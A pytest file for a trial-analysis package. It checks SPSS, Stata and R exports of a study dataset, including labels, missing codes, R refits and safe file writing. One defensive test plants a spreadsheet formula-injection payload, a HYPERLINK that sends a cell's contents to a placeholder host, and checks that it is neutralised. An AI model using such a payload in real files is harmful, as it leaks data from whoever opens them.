"""SPSS, Stata and R exports of the analysis dataset: read back with pyreadstat (labels, values,
missing-value codes), and the R script run in R, its lme4/lmerTest fixed effects matching the
report's statsmodels fits to 1e-4 (relative)."""

from __future__ import annotations

import dataclasses
import subprocess
from pathlib import Path

import numpy as np
import pandas as pd
import pyreadstat
import pytest

from peerlens.analysis import ReportError, fit_mixed_model
from peerlens.analysis._files import OutputError, write_files
from peerlens.analysis.stat_exports import write_export
from peerlens.study import HRV_TABLE_COLUMNS, AnalysisDataset, HrvTable, Store

from ._trial import Trial
from .test_mixed import _rscript


def _stored_items(trial: Trial) -> pd.DataFrame:
    return trial.items.set_index(["participant", "timepoint"])


def test_spss_labels_values_and_user_missing(
    dataset: AnalysisDataset, stored: tuple[Store, Trial], tmp_path: Path
) -> None:
    (path,) = write_export(dataset, tmp_path / "trial.sav", format="spss")
    data, meta = pyreadstat.read_sav(str(path), user_missing=True)
    labels = meta.column_names_to_labels
    assert labels["scs_total"] == "SCS Total (mean of keyed items)"
    assert labels["scs_3"] == "SCS item 3"
    # Reference arm first, coded 1; timepoints in schedule order.
    assert meta.variable_value_labels["arm"] == {1.0: "usual_care", 2.0: "peer_support"}
    assert meta.variable_value_labels["timepoint"] == {
        1.0: "baseline",
        2.0: "week12",
        3.0: "week24",
    }
    assert meta.missing_ranges["scs_3"] == [{"lo": -9.0, "hi": -9.0}]
    # Every stored item value comes back, the coded-missing one as its code (-9).
    stored_items = _stored_items(stored[1])
    timepoints = data["timepoint"].map(meta.variable_value_labels["timepoint"])
    back = data.assign(timepoint=timepoints).set_index(["participant", "timepoint"])
    for col in ("scs_1", "scs_3", "scs_26"):
        expected = stored_items[col].reindex(back.index).to_numpy(dtype=float)
        np.testing.assert_array_equal(back[col].to_numpy(dtype=float), expected)
    # Read as SPSS users do by default: the user-missing code becomes missing.
    plain, _ = pyreadstat.read_sav(str(path))
    assert plain["scs_3"].isna().sum() == 1
    assert path.stat().st_mode & 0o077 == 0


def test_stata_labels_and_extended_missing(dataset: AnalysisDataset, tmp_path: Path) -> None:
    (path,) = write_export(dataset, tmp_path / "trial.dta", format="stata")
    data, meta = pyreadstat.read_dta(str(path), user_missing=True)
    assert meta.column_names_to_labels["scs_isolation"] == "SCS Isolation"
    assert meta.variable_value_labels["arm"] == {1: "usual_care", 2: "peer_support"}
    assert meta.missing_user_values["scs_3"] == ["a"]
    assert "missing codes .a = -9" in meta.file_label
    first = (data["participant"] == "P000") & (data["timepoint"] == 1)
    assert data.loc[first, "scs_3"].tolist() == ["a"]
    totals = dataset.scores.set_index(["participant", "timepoint"])["scs_total"]
    tp = {1: "baseline", 2: "week12", 3: "week24"}
    keys = list(zip(data["participant"], data["timepoint"].map(tp), strict=True))
    np.testing.assert_allclose(data["scs_total"].to_numpy(dtype=float), totals.reindex(keys))


def test_r_script_refits_the_report_models(dataset: AnalysisDataset, tmp_path: Path) -> None:
    rscript = _rscript()
    outcomes = ["scs_total", "scs_isolation"]
    csv, script = write_export(dataset, tmp_path / "trial.csv", format="r", outcomes=outcomes)
    assert csv.read_text(encoding="utf-8").startswith("participant,arm,site,timepoint,")
    assert script.name == "trial.R"
    done = subprocess.run(
        [rscript, str(script), str(tmp_path)], capture_output=True, text=True, timeout=300
    )
    assert done.returncode == 0, done.stderr
    fixed = pd.read_csv(tmp_path / "trial_fixed_effects.csv")
    for outcome in outcomes:
        fit = fit_mixed_model(
            dataset.scores,
            outcome,
            arms=["usual_care", "peer_support"],
            timepoints=["baseline", "week12", "week24"],
        )
        r = fixed[fixed["outcome"] == outcome].set_index("term")
        assert list(r.index) == list(fit.terms)
        for fe in fit.fixed:
            assert r.loc[fe.term, "estimate"] == pytest.approx(fe.estimate, rel=1e-4, abs=1e-9)
            assert r.loc[fe.term, "se"] == pytest.approx(fe.se, rel=1e-4)
            assert r.loc[fe.term, "df"] == pytest.approx(fe.df, rel=1e-3)


def test_bad_requests_write_nothing(dataset: AnalysisDataset, tmp_path: Path) -> None:
    with pytest.raises(ReportError, match=r"written as \.sav"):
        write_export(dataset, tmp_path / "x.csv", format="spss")
    with pytest.raises(ReportError, match=r"unknown outcome.*nope"):
        write_export(dataset, tmp_path / "x.csv", format="r", outcomes=["nope"])
    with pytest.raises(ReportError, match="export format 'sas'"):
        write_export(dataset, tmp_path / "x.sas7bdat", format="sas")
    assert list(tmp_path.iterdir()) == []


def test_redcap_dictionary_labels_reach_spss(tmp_path: Path) -> None:
    """A study built on a REDCap data dictionary: field labels become variable labels and the
    choices of a radio field its value labels."""
    from peerlens.study import (
        NewParticipant,
        add_participants,
        analysis_dataset,
        bootstrap_admin,
        create_study,
        import_responses,
    )
    from peerlens.study.redcap import DICTIONARY_COLUMNS

    from ..conftest import ADMIN, PASSWORD

    rows = [["record_id", "mood", "", "text", "ID", *[""] * 13]]
    rows += [
        [f"m{i}", "mood", "", "radio", f"How often {i}", "0, Never | 1, Sometimes | 2, Often"]
        + [""] * 12
        for i in (1, 2)
    ]
    pd.DataFrame(rows, columns=list(DICTIONARY_COLUMNS)).to_csv(tmp_path / "d.csv", index=False)
    (tmp_path / "s.yaml").write_text(
        f'data_dictionary: "{tmp_path / "d.csv"}"\narms: [ps, usual_care]\n'
        "timepoints:\n  - name: baseline\n    instruments: [mood]\n",
        encoding="utf-8",
    )
    store = Store.open(f"sqlite:///{tmp_path / 'r.db'}", create=True, blob_dir=tmp_path / "b")
    try:
        bootstrap_admin(store, ADMIN.username, PASSWORD)
        create_study(store, "rc", tmp_path / "s.yaml", caller=ADMIN)
        add_participants(
            store, "rc", [NewParticipant("R1", arm="ps"), NewParticipant("R2", arm="usual_care")],
            caller=ADMIN,
        )  # fmt: skip
        pd.DataFrame({"participant": ["R1", "R2"], "m1": [0, 2], "m2": [1, 1]}).to_csv(
            tmp_path / "r.csv", index=False
        )
        import_responses(store, "rc", tmp_path / "r.csv", timepoint="baseline", caller=ADMIN)
        dataset = analysis_dataset(store, "rc", caller=ADMIN)
    finally:
        store.close()
    (path,) = write_export(dataset, tmp_path / "rc.sav", format="spss")
    data, meta = pyreadstat.read_sav(str(path))
    assert meta.column_names_to_labels["m1"] == "How often 1"
    assert meta.variable_value_labels["m2"] == {0.0: "Never", 1.0: "Sometimes", 2.0: "Often"}
    assert data.set_index("participant").loc["R2", "m1"] == 2.0
    labels = dataset.variable_labels
    assert labels["m1"] == "How often 1"
    assert dict(dataset.value_labels["m2"]) == {0.0: "Never", 1.0: "Sometimes", 2.0: "Often"}
    items = dataset.items.set_index("participant")
    assert items.loc["R1", "m1"] == 0.0 and items.loc["R2", "m1"] == 2.0


def test_r_refits_every_model_of_the_report(
    worker_dataset: AnalysisDataset, tmp_path: Path
) -> None:
    """The report of a trial with PS workers and their analysed sessions lists its mixed,
    partially nested, moderation and mediation models; the exported R script refits each from
    the exported CSV, and lme4 / lm agree with the report's fits: fixed effects and variance
    components to 1e-4 (relative; a variance at its boundary of 0 to 1e-8 of the residual
    variance, an estimate near 0 to 1e-6 absolute), REML log-likelihoods to 1e-4."""
    from peerlens.analysis import ReportOptions, build_report

    rscript = _rscript()
    report = build_report(worker_dataset, ReportOptions(n_boot=200, n_imputations=2))
    kinds = {m.key.split(":")[0] for m in report.models}
    assert kinds == {"mixed", "nested", "moderation", "mediation"}
    _csv, script = write_export(worker_dataset, tmp_path / "w.csv", format="r")
    done = subprocess.run(
        [rscript, str(script), str(tmp_path)], capture_output=True, text=True, timeout=600
    )
    assert done.returncode == 0, done.stderr
    r = pd.read_csv(tmp_path / "w_models.csv")
    for model in report.models:
        mine = r[r["model"] == model.key]
        assert len(mine), f"{model.key}: not refitted in R ({done.stderr[-2000:]})"
        fixed = mine[mine["kind"] == "fixed"].set_index("name")["value"]
        for term, estimate in model.fixed.items():
            assert estimate == pytest.approx(fixed[term], rel=1e-4, abs=1e-6), (model.key, term)
        if model.loglik is None:
            continue
        assert set(fixed.index) == set(model.fixed), model.key
        variance = mine[mine["kind"] == "variance"].set_index("name")["value"]
        assert set(variance.index) == set(model.variance), model.key
        tiny = 1e-8 * variance["residual"]
        for name, value in model.variance.items():
            assert value == pytest.approx(variance[name], rel=1e-4, abs=tiny), (model.key, name)
        loglik = float(mine.loc[mine["kind"] == "loglik", "value"].iloc[0])
        assert model.loglik == pytest.approx(loglik, rel=1e-4), model.key


def _with_code(dataset: AnalysisDataset, codes: tuple[float, ...], value: float) -> AnalysisDataset:
    """``dataset`` with missing-data ``codes`` and P000's first ``scs_5`` coded ``value``."""
    items, item_codes = dataset.items.copy(), dataset.item_codes.copy()
    first = items.index[items["participant"] == "P000"][0]
    items.loc[first, "scs_5"] = value
    item_codes["scs_5"] = item_codes["scs_5"].astype(float)
    item_codes.loc[first, "scs_5"] = value
    return dataclasses.replace(dataset, items=items, item_codes=item_codes, missing_codes=codes)


def test_r6_3_every_missing_code_is_user_missing_in_spss(
    dataset: AnalysisDataset, tmp_path: Path
) -> None:
    four = _with_code(dataset, (-9.0, -8.0, -7.0, -6.0), -6.0)
    (path,) = write_export(four, tmp_path / "four.sav", format="spss")
    _, meta = pyreadstat.read_sav(str(path), user_missing=True)
    assert meta.missing_ranges["scs_5"] == [{"lo": -9.0, "hi": -6.0}]
    plain, _ = pyreadstat.read_sav(str(path))
    assert (plain["scs_5"] < 0).sum() == 0  # -6 is missing, not an answer
    # Codes enclosing real answers cannot be one range: refused, nothing written.
    odd = _with_code(dataset, (-9.0, -8.0, 2.5, 7.0, 99.0), 99.0)
    with pytest.raises(ReportError, match="SPSS declares at most 3 missing-data codes"):
        write_export(odd, tmp_path / "odd.sav", format="spss")
    many = _with_code(dataset, tuple(float(-c) for c in range(1, 28)), -27.0)
    with pytest.raises(ReportError, match="Stata's extended missing values hold 26"):
        write_export(many, tmp_path / "many.dta", format="stata")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["four.sav"]


def test_r6_10_names_stata_cannot_hold_are_refused_by_name(
    dataset: AnalysisDataset, tmp_path: Path
) -> None:
    long = "how_often_did_you_feel_connected_to_others_1"  # 44 characters: a REDCap name
    renamed = dataclasses.replace(
        dataset,
        items=dataset.items.rename(columns={"scs_1": long, "scs_2": "in"}),
        item_codes=dataset.item_codes.rename(columns={"scs_1": long, "scs_2": "in"}),
    )
    with pytest.raises(ReportError, match=f"'{long}' is longer than 32 characters; 'in' is a"):
        write_export(renamed, tmp_path / "x.dta", format="stata")
    assert list(tmp_path.iterdir()) == []


def test_r6_6_r_export_keeps_foreign_and_earlier_files(
    dataset: AnalysisDataset, tmp_path: Path
) -> None:
    mine = tmp_path / "analysis.R"
    mine.write_text("# my own analysis\n")
    with pytest.raises(ReportError, match=r"analysis\.R: exists and was not written by peerlens"):
        write_export(dataset, tmp_path / "analysis.csv", format="r", outcomes=["scs_total"])
    assert mine.read_text() == "# my own analysis\n"
    assert not (tmp_path / "analysis.csv").exists()
    # Our own script is replaced on a re-export.
    csv, _ = write_export(dataset, tmp_path / "ok.csv", format="r", outcomes=["scs_total"])
    write_export(dataset, csv, format="r", outcomes=["scs_total"])
    # A failing write keeps the earlier files.
    write_files({tmp_path / "a.csv": b"old a\n"})
    (tmp_path / "a.R").mkdir()
    with pytest.raises(OutputError):
        write_files({tmp_path / "a.csv": b"new a\n", tmp_path / "a.R": b"x"})
    assert (tmp_path / "a.csv").read_bytes() == b"old a\n"
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


def test_r6_9_the_r_csv_is_formula_neutralised(dataset: AnalysisDataset, tmp_path: Path) -> None:
    site = '=HYPERLINK("http://x.example/?"&A1,"open")'
    people = dataset.participants.assign(site=dataset.participants["site"].replace("north", site))
    bad = dataclasses.replace(dataset, participants=people, sites=(site, "south"))
    csv, _ = write_export(bad, tmp_path / "t.csv", format="r", outcomes=["scs_total"])
    cells = pd.read_csv(csv, dtype=str)["site"]
    assert not cells.str.startswith("=").any() and cells.str.startswith("'=").any()


@pytest.mark.parametrize(("format", "suffix"), [("spss", ".sav"), ("stata", ".dta")])
def test_spss_and_stata_write_the_hrv_table_beside_the_dataset(
    hrv_data: tuple[AnalysisDataset, HrvTable], format: str, suffix: str, tmp_path: Path
) -> None:
    dataset, hrv = hrv_data
    read = pyreadstat.read_sav if format == "spss" else pyreadstat.read_dta
    written = write_export(dataset, tmp_path / f"trial{suffix}", format=format, hrv=hrv)
    assert [p.name for p in written] == [f"trial{suffix}", f"trial_hrv{suffix}"]
    _, main_meta = read(str(written[0]))
    data, meta = read(str(written[1]))
    assert list(data.columns) == list(HRV_TABLE_COLUMNS)
    labels = meta.column_names_to_labels
    assert labels["rmssd_ms"] == "RMSSD (ms)" and labels["valid"].startswith("Window valid")
    assert all(labels[c] and labels[c] != c for c in data.columns)
    values = meta.variable_value_labels
    for factor in ("arm", "site", "timepoint"):  # coded as in the dataset's file
        assert values[factor] == main_meta.variable_value_labels[factor], factor
    assert list(values["window"].values())[:3] == ["baseline", "session", "recovery"]
    assert values["valid"] == {1: "valid", 0: "not valid"}
    # Every window comes back: decoded through the value labels, equal to the study's table.
    windows = hrv.windows.reset_index(drop=True)
    back = data.copy()
    for factor in ("arm", "site", "timepoint", "window", "valid"):
        back[factor] = data[factor].map(values[factor])
    windows = windows.assign(valid=windows["valid"].map({True: "valid", False: "not valid"}))
    for factor in ("arm", "site", "timepoint", "window", "valid"):
        expected = windows[factor].astype(object).fillna("?").tolist()
        assert back[factor].astype(object).fillna("?").tolist() == expected, factor
    for column in ("rmssd_ms", "hf_ms2", "artifact_rate", "start_s"):
        np.testing.assert_allclose(
            data[column].to_numpy(dtype=float), windows[column].to_numpy(dtype=float)
        )
    assert (data["recording"] == windows["recording"]).all()
    assert written[1].stat().st_mode & 0o077 == 0


def test_spss_and_stata_hrv_file_is_written_with_the_dataset_or_not_at_all(
    hrv_data: tuple[AnalysisDataset, HrvTable], tmp_path: Path
) -> None:
    dataset, hrv = hrv_data
    empty = HrvTable(hrv.study, hrv.windows.iloc[:0], hrv.sha256)
    assert [
        p.name for p in write_export(dataset, tmp_path / "a.sav", format="spss", hrv=empty)
    ] == ["a.sav"]
    (tmp_path / "b_hrv.dta").mkdir()  # the HRV file cannot be written: neither file is
    with pytest.raises(OutputError, match=r"b_hrv\.dta"):
        write_export(dataset, tmp_path / "b.dta", format="stata", hrv=hrv)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.sav", "b_hrv.dta"]
